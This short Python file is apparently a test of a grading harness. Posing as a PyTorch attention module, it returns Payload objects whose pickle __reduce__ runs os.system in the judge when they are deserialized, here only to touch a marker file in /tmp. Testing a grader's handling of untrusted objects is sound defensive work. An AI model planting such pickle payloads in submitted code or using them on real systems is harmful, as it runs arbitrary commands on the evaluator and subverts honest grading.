"""Attack 3: return objects whose unpickling would run code (write a file) in the judge."""
import os

import torch.nn as nn

MARKER = "/tmp/grader-attack-pickle-ran"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


class QKV(nn.Module):
    def __init__(self, n_embd, head_size):
        super().__init__()
        self.query = nn.Linear(n_embd, head_size, bias=False)
        self.key = nn.Linear(n_embd, head_size, bias=False)
        self.value = nn.Linear(n_embd, head_size, bias=False)

    def forward(self, x):
        return Payload(), Payload(), Payload()
